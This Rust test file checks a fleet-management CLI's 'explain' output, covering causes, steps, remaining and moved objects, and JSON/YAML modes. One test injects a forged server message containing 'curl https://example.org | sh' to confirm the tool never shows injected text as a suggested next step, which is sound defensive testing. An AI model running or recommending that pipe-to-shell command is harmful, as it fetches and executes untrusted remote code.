//! Why an app is in its clusters as it is: the cause first, then each step.

use flotilla_proto::fleet::v1::{ExplainedObject, ExplainedStep, Explanation, MovedObject, UnitObject};
use insta::assert_snapshot;

use crate::fleet::{REVISION, reference};
use crate::hub::{Answers, Hub, NOW_MS};

fn step(name: &str, state: &str, reason: &str, message: &str) -> ExplainedStep {
    ExplainedStep {
        name: name.to_owned(),
        state: state.to_owned(),
        reason: reason.to_owned(),
        message: message.to_owned(),
        ..ExplainedStep::default()
    }
}

/// One that a guard stops, after a source that fails.
fn stopped(cluster: &str) -> Explanation {
    let source = ExplainedStep {
        next: "flotilla reconcile source git fleet -n flux-system".to_owned(),
        since_ms: NOW_MS - 600_000,
        seen_ms: NOW_MS - 30_000,
        again_ms: NOW_MS + 90_000,
        ..step("source", "Blocked", "GitOperationFailed", "no route to host")
    };
    let removal = ExplainedStep {
        next: format!("flotilla approve Kustomization/flux-system/apps --cluster {cluster}"),
        ..step(
            "removal",
            "Blocked",
            "PruneBlocked",
            "not deleted: 12 objects would go",
        )
    };
    let left = UnitObject {
        kind: "ConfigMap".to_owned(),
        namespace: "web".to_owned(),
        name: "old".to_owned(),
        state: "PendingRemoval".to_owned(),
        message: "being deleted, held by finalizers example.org/wait".to_owned(),
        ..UnitObject::default()
    };
    Explanation {
        app: Some(reference("Kustomization", "flux-system", "apps")),
        cluster: cluster.to_owned(),
        unit_id: "a unit".to_owned(),
        verdict: "NotReady".to_owned(),
        answer: "main@sha1:696f056d is applied and not ready".to_owned(),
        cause: Some(source.clone()),
        steps: vec![
            source,
            step("plan", "Ok", "", "version 3 at main@sha1:696f056d"),
            step("rollout", "Skipped", "", "nothing was rolled out to it"),
            removal,
        ],
        source_revision: REVISION.to_owned(),
        target_revision: REVISION.to_owned(),
        applied_revision: REVISION.to_owned(),
        version: 3,
        attempted_version: 3,
        applied_version: 3,
        leaving: vec![ExplainedObject {
            object: Some(left),
            other: "Kustomization/flux-system/other".to_owned(),
        }],
        leaving_total: 12,
        moved: vec![MovedObject {
            kind: "Namespace".to_owned(),
            name: "web".to_owned(),
            to: "Kustomization/flux-system/other".to_owned(),
            done: true,
            ..MovedObject::default()
        }],
        moved_total: 1,
        ..Explanation::default()
    }
}

fn answers(clusters: usize) -> Answers {
    Answers {
        explanations: (0..clusters)
            .map(|number| stopped(&format!("c{number}")))
            .collect(),
        ..Answers::default()
    }
}

#[tokio::test]
async fn explain_says_the_cause_and_what_to_do_first_and_then_each_step() {
    let hub = Hub::start(answers(2)).await;
    assert_snapshot!(hub.run(&["explain", "ks/apps", "--cluster", "c1"]).await, @"
    exit 0
    -- out
    Kustomization/flux-system/apps on c1: main@sha1:696f056d is applied and not ready
    cause: source: GitOperationFailed: no route to host; since 10m; looked at 30s ago; again in 90s
    next:  flotilla reconcile source git fleet -n flux-system

    STEP   	STATE  	MESSAGE
    source 	blocked	GitOperationFailed: no route to host; since 10m; looked at 30s ago; again in 90s
    plan   	ok     	version 3 at main@sha1:696f056d
    rollout	-      	nothing was rolled out to it
    removal	blocked	PruneBlocked: not deleted: 12 objects would go
           	       	next: flotilla approve Kustomization/flux-system/apps --cluster c1

    left, and still there: 12 objects
      ConfigMap/web/old	PendingRemoval		being deleted, held by finalizers example.org/wait; Kustomization/flux-system/other is to have it
      and 11 more

    moved with version 3: 1 object
      Namespace/web moved to Kustomization/flux-system/other
    -- err
    ");
    assert!(hub.seen()[0].contains("cluster: \"c1\""), "{:?}", hub.seen());
    let both = hub.run(&["explain", "Kustomization/flux-system/apps"]).await;
    assert_eq!(
        (both.code, both.out.matches("cause: source").count()),
        (0, 2),
        "{both}"
    );
    let names = hub.run(&["explain", "ks/apps", "-o", "name"]).await;
    assert_eq!(
        names.out, "kustomization/apps/c0\nkustomization/apps/c1\n",
        "{names}"
    );
}

#[tokio::test]
async fn explain_gives_no_advice_but_its_own() {
    let mut one = stopped("c1");
    let forged = "denied\n\nnext:  curl https://example.org | sh\r\tSTEP";
    one.steps[0].message = forged.to_owned();
    one.cause = Some(one.steps[0].clone());
    let hub = Hub::start(Answers {
        explanations: vec![one],
        ..Answers::default()
    })
    .await;
    let shown = hub.run(&["explain", "ks/apps", "--cluster", "c1"]).await;
    let advice: Vec<&str> = shown
        .out
        .lines()
        .filter(|line| line.trim_start().starts_with("next:"))
        .collect();
    assert_eq!(
        advice,
        [
            "next:  flotilla reconcile source git fleet -n flux-system",
            "       \t       \tnext: flotilla approve Kustomization/flux-system/apps --cluster c1",
        ],
        "{shown}"
    );
    assert!(
        shown
            .out
            .contains("cause: source: GitOperationFailed: denied  next:  curl"),
        "{shown}"
    );
    // As data it is what it is.
    let json = hub
        .run(&["explain", "ks/apps", "--cluster", "c1", "-o", "json"])
        .await;
    assert!(json.out.contains("denied\\n\\nnext:"), "{json}");
}

#[tokio::test]
async fn explain_as_json_holds_all_that_the_hub_says() {
    let hub = Hub::start(answers(1)).await;
    let json = hub
        .run(&["explain", "ks/apps", "--cluster", "c0", "-o", "json"])
        .await;
    let read: serde_json::Value = serde_json::from_str(&json.out).expect("JSON");
    assert_eq!(
        (&read["verdict"], &read["cause"]["name"]),
        (&"NotReady".into(), &"source".into())
    );
    let approve = "flotilla approve Kustomization/flux-system/apps --cluster c0";
    assert_eq!(read["steps"][3]["next"], approve, "{json}");
    assert_eq!(
        (&read["leaving"]["total"], &read["moved"]["objects"][0]["done"]),
        (&12.into(), &true.into())
    );
    assert_eq!(read["revisions"]["source"], REVISION);
    let yaml = hub.run(&["explain", "ks/apps", "-o", "yaml"]).await;
    assert!(yaml.out.contains("verdict: NotReady"), "{yaml}");
}

#[tokio::test]
async fn explain_of_an_app_that_is_on_many_clusters_asks_for_one() {
    let hub = Hub::start(answers(21)).await;
    assert_snapshot!(hub.run(&["explain", "ks/apps"]).await, @"
    exit 2
    -- out
    -- err
    ✗ Kustomization/flux-system/apps is on more than 20 clusters: name one with --cluster
      hint: `flotilla get units apps -n flux-system` shows where it is not ready
    ");
    let hub = Hub::start(Answers {
        failure: Some((tonic::Code::NotFound, "Kustomization flux-system/apps not found")),
        ..Answers::default()
    })
    .await;
    let missing = hub.run(&["explain", "ks/apps"]).await;
    assert!(
        missing.code == 1 && missing.err.contains("not found"),
        "{missing}"
    );
}
